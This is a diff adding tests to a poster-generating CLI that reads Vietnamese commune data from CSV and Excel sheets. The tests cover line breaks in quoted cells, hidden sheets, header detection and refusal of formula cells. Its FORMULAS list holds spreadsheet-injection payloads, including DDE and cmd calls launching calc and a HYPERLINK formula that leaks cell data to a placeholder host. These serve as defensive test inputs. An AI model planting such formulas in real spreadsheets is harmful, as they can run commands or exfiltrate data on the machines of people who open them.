@@ -156,3 +156,234 @@ def test_a_one_row_windows_1258_sheet(tmp_path):
     assert done.returncode == 0, done.stderr
     text = pdf_text(out / "a3-portrait-xa-tan-lap.pdf")
     assert "UBND XÃ TÂN LẬP" in text and "TỈNH PHÚ THỌ" in text
+
+
+# ---------------------------------------------------------------- as officers export them
+
+
+def _names(out: Path) -> list[str]:
+    return sorted(p.name for p in out.glob("*.pdf"))
+
+
+def test_quoted_cells_with_line_breaks_are_read_as_in_the_file(tmp_path):
+    """Alt+Enter in Excel is a line break inside a quoted cell (LF; CR LF or CR from
+    other programs): the row is one row, its number the spreadsheet's, and a break in
+    the authority cell starts a new authority line."""
+    sheet = tmp_path / "xuong-dong.csv"
+    sheet.write_bytes(
+        (
+            "name,authority,footer\r\n"
+            '"Xã Một","UBND XÃ MỘT\nTỈNH BẮC NINH",Chân trang một\r\n'
+            '"Xã Hai","UBND XÃ HAI\r\nTỈNH BẮC NINH","Chân trang\rhai dòng"\r\n'
+            "Xã Ba,UBND XÃ BA,Chân trang ba\r\n"
+            'Xã Bốn,"UBND XÃ BỐN\n\nTỈNH BẮC NINH","ghi\n""chú"" dài"\r\n'
+            "Xã Năm,UBND XÃ NĂM,=1+1\r\n"
+        ).encode()
+    )
+    out = tmp_path / "out"
+    done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-j", "2", "-o", out)
+    assert done.returncode == 1, done.stderr
+    # the sixth row of the sheet, the ninth line of the file
+    assert "xuong-dong.csv:6: footer: looks like a spreadsheet formula: '=1+1'" in done.stderr
+    assert "quote" not in done.stderr
+    assert _names(out) == [
+        "a3-portrait-xa-ba.pdf", "a3-portrait-xa-bon.pdf", "a3-portrait-xa-hai.pdf",
+        "a3-portrait-xa-mot.pdf",
+    ]  # fmt: skip
+    for slug, authority, footer in [
+        ("xa-mot", "UBND XÃ MỘT TỈNH BẮC NINH", "Chân trang một"),
+        ("xa-hai", "UBND XÃ HAI TỈNH BẮC NINH", "Chân trang hai dòng"),
+        ("xa-bon", "UBND XÃ BỐN TỈNH BẮC NINH", 'ghi "chú" dài'),
+    ]:
+        text = pdf_text(out / f"a3-portrait-{slug}.pdf")
+        assert authority in text and footer in text, (slug, text[:300])
+
+
+def test_an_unclosed_quote_spoils_its_row_only_even_among_line_breaks(tmp_path):
+    sheet = tmp_path / "ngoac.csv"
+    sheet.write_text(
+        'name,authority\nXã Một,"UBND\nXÃ MỘT"\n"Xã Hai,UBND XÃ HAI\nXã Ba,UBND XÃ BA\n',
+        encoding="utf-8",
+    )
+    out = tmp_path / "out"
+    done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-o", out)
+    assert done.returncode == 1, done.stderr
+    assert 'ngoac.csv:3: a quote (") is opened and not closed on this row' in done.stderr
+    assert _names(out) == ["a3-portrait-xa-ba.pdf", "a3-portrait-xa-mot.pdf"]
+
+
+def _workbook(path: Path, sheets: list[tuple[str, str, list[list[str]]]], active: int) -> Path:
+    """A workbook of (title, state, rows) sheets, `active` the sheet shown on opening."""
+    from openpyxl import Workbook
+
+    book = Workbook()
+    book.remove(book.active)
+    for title, state, rows in sheets:
+        sheet = book.create_sheet(title)
+        sheet.sheet_state = state
+        for row in rows:
+            sheet.append(row)
+    book.active = active
+    book.save(path)
+    return path
+
+
+def test_a_workbook_with_a_hidden_first_sheet_renders_the_visible_one(tmp_path):
+    book = _workbook(tmp_path / "an.xlsx", [
+        ("Cũ", "hidden", [["Tên"], ["Xã Ẩn"]]),
+        ("Đơn vị", "visible", [["Tên", "Cơ quan"], ["Xã Hiện", "UBND XÃ HIỆN"]]),
+        ("Nháp", "veryHidden", [["Tên"], ["Xã Nháp"]]),
+    ], active=1)  # fmt: skip
+    out = tmp_path / "out"
+    done = run_cli("batch", "--brands", book, "--layout", "a3-portrait", "-o", out)
+    assert done.returncode == 0, done.stderr
+    assert _names(out) == ["a3-portrait-xa-hien.pdf"]
+    assert (
+        f"{book}: reading the sheet 'Đơn vị' (the active sheet); hidden sheets ignored: "
+        "'Cũ', 'Nháp'"
+    ) in done.stderr.splitlines()
+    vi = run_cli("batch", "--brands", book, "-o", out, lang="vi_VN.UTF-8")
+    assert f"{book}: đọc trang tính 'Đơn vị' (trang đang chọn); bỏ qua các trang bị ẩn: " in (
+        vi.stderr
+    )
+    # a workbook (not Excel's) whose active sheet is hidden: the first visible one
+    odd = _workbook(tmp_path / "la.xlsx", [
+        ("Ẩn", "hidden", [["Tên"], ["Xã Ẩn"]]), ("Hiện", "visible", [["Tên"], ["Xã Hiện"]]),
+    ], active=0)  # fmt: skip
+    done = run_cli("batch", "--brands", odd, "--layout", "a3-portrait", "-o", tmp_path / "o2")
+    assert done.returncode == 0, done.stderr
+    assert _names(tmp_path / "o2") == ["a3-portrait-xa-hien.pdf"]
+    # every sheet hidden, which openpyxl will not write: its workbook.xml edited after
+    import zipfile
+
+    odd_zip = zipfile.ZipFile(odd)
+    parts = {name: odd_zip.read(name) for name in odd_zip.namelist()}
+    odd_zip.close()
+    wb = parts["xl/workbook.xml"].decode()
+    assert wb.count('state="hidden"') == wb.count('state="visible"') == 1
+    parts["xl/workbook.xml"] = wb.replace('state="visible"', 'state="hidden"').encode()
+    hidden = tmp_path / "het.xlsx"
+    with zipfile.ZipFile(hidden, "w") as z:
+        for name, data in parts.items():
+            z.writestr(name, data)
+    done = run_cli("batch", "--brands", hidden, "-o", tmp_path / "o3")
+    assert done.returncode == 2
+    assert done.stderr == f"{hidden}: every sheet of the workbook is hidden: unhide the " \
+        "sheet of brands (right-click a sheet tab, Unhide)\n"  # fmt: skip
+
+
+FORMULAS = [  # (column, cell): each refuses its row
+    ("footer", "=1+1"),
+    ("footer", " =1+1"),
+    ("footer", "+SUM(A1:A3)"),
+    ("footer", "-2+3"),
+    ("footer", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("footer", "\t=1+1"),
+    ("footer", "\tXã"),
+    ("footer", "\r=1+1"),
+    ("footer", "+cmd|' /C calc'!A0"),
+    ("footer", "-cmd|' /C calc'!A0"),
+    ("footer", "@cmd|'/C notepad'!A0"),
+    ("footer", '=HYPERLINK("http://x.example/?leak="&A1,"bấm")'),
+    ("footer", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'),
+    ("footer", "＝1+1"),
+    ("footer", "+Sheet2!A1"),
+    ("footer", "-'Tờ 2'!B3"),
+    ("footer", "@A1"),
+    ("footer", "+$B$2"),
+    ("authority", "+cmd|' /C calc'!A0 | TỈNH X"),
+    ("qr_caption", "-1+1"),
+    ("name", "-Xã Một"),
+    ("name", "+Xã Hai"),
+    ("name", "@Xã Ba"),
+    ("primary", "+1"),
+    ("qr_url", "-https://x.vn"),
+    ("logo", "@logo.png"),
+]
+TEXTS = [  # (column, cell): text that starts with a sign, rendered as written
+    ("authority", "- UBND XÃ TÁM"),
+    ("footer", "- Phòng Văn hóa xã"),
+    ("footer", "+84 912 345 678"),
+    ("qr_caption", "@ubndxachin trên Zalo"),
+    ("footer", "-- hết --"),
+]
+
+
+def test_every_formula_form_is_refused_for_its_row_and_signed_text_is_not(tmp_path):
+    header = ["name", "authority", "footer", "qr_caption", "primary", "qr_url", "logo"]
+    rows = [header]
+    for i, (column, cell) in enumerate(FORMULAS + TEXTS):
+        row = {"name": f"Xã Số {i}", column: cell}
+        rows.append([row.get(h, "") for h in header])
+    sheet = tmp_path / "cong-thuc.csv"
+    sheet.write_text(as_csv(rows), encoding="utf-8")
+    out = tmp_path / "out"
+    done = run_cli("batch", "--brands", sheet, "--layout", "a3-portrait", "-j", "2", "-o", out)
+    assert done.returncode == 1, done.stderr
+    refused = {ln.split(": ", 1)[0]: ln for ln in done.stderr.splitlines() if "formula" in ln}
+    for i, (column, cell) in enumerate(FORMULAS):
+        line = refused.pop(f"cong-thuc.csv:{i + 2}", None)
+        assert line == (
+            f"cong-thuc.csv:{i + 2}: {column}: looks like a spreadsheet formula: {cell!r} "
+            "(type the value itself, without the leading sign)"
+        ), (cell, line)
+    assert not refused, refused
+    slugs = [f"a3-portrait-xa-so-{len(FORMULAS) + i}.pdf" for i in range(len(TEXTS))]
+    assert _names(out) == sorted(slugs)
+    for slug, (_, cell) in zip(slugs, TEXTS, strict=True):
+        assert cell in pdf_text(out / slug), (cell, slug)
+
+
+def test_a_formula_cell_of_a_workbook_is_refused_for_its_row(tmp_path):
+    book = _workbook(tmp_path / "ct.xlsx", [("Đơn vị", "visible", [
+        ["Tên", "Chân trang"], ["Xã Một", "=CONCAT(\"a\",\"b\")"], ["Xã Hai", "Chân trang"],
+    ])], 0)  # fmt: skip
+    out = tmp_path / "out"
+    done = run_cli("batch", "--brands", book, "--layout", "a3-portrait", "-o", out)
+    assert done.returncode == 1, done.stderr
+    assert 'ct.xlsx:2: footer: looks like a spreadsheet formula: \'=CONCAT("a","b")\'' in (
+        done.stderr
+    )
+    assert _names(out) == ["a3-portrait-xa-hai.pdf"]
+
+
+def test_a_header_under_a_merged_title_row_is_found(tmp_path):
+    from openpyxl import Workbook
+
+    book = Workbook()
+    sheet = book.active
+    sheet.title = "Danh sách"
+    sheet.append(["DANH SÁCH ĐƠN VỊ IN ÁP PHÍCH"])
+    sheet.merge_cells("A1:D1")
+    sheet.append([])
+    sheet.append(["STT", "Tên đơn vị", "Cơ quan", "Màu chủ đạo"])
+    sheet.append([1, "Xã Một", "UBND XÃ MỘT", "#0B4F8A"])
+    sheet.append([2, "Xã Hai", "UBND XÃ HAI", "đỏ"])
+    path = tmp_path / "tieu-de.xlsx"
+    book.save(path)
+    out = tmp_path / "out"
+    done = run_cli("batch", "--brands", path, "--layout", "a3-portrait", "-o", out)
+    assert done.returncode == 1, done.stderr
+    # the rows as the sheet numbers them; the numbering column ignored with one warning
+    assert "tieu-de.xlsx:5: primary: not a colour: 'đỏ'" in done.stderr
+    assert f"warning: {path}:3: columns ignored (not brand fields): STT" in done.stderr
+    assert _names(out) == ["a3-portrait-xa-mot.pdf"]
+    # a CSV export of such a sheet: the title line, semicolons, the header on line 3
+    text = tmp_path / "tieu-de.csv"
+    text.write_text("DANH SÁCH ĐƠN VỊ;;\n;;\nTên;Cơ quan;Ghi chú\nXã Ba;UBND XÃ BA;\n", "utf-8")
+    done = run_cli("batch", "--brands", text, "--layout", "a3-portrait", "-o", out)
+    assert done.returncode == 0, done.stderr
+    assert "UBND XÃ BA" in pdf_text(out / "a3-portrait-xa-ba.pdf")
+
+
+def test_a_header_too_far_down_is_refused_saying_where_it_must_be(tmp_path):
+    sheet = tmp_path / "xa.csv"
+    sheet.write_text("Ghi chú\n" * 10 + "Tên,Cơ quan\nXã Một,UBND XÃ MỘT\n", encoding="utf-8")
+    done = run_cli("batch", "--brands", sheet, "-o", tmp_path / "out")
+    assert done.returncode == 2
+    assert done.stderr == (
+        f"{sheet}: name: no header row in the first 10 rows: put the column names (name or "
+        "Tên, authority or Cơ quan, …) in one of the first 10 rows\n"
+    )
+    vi = run_cli("batch", "--brands", sheet, "-o", tmp_path / "out", lang="vi_VN.UTF-8")
+    assert "không thấy dòng tiêu đề trong 10 dòng đầu" in vi.stderr
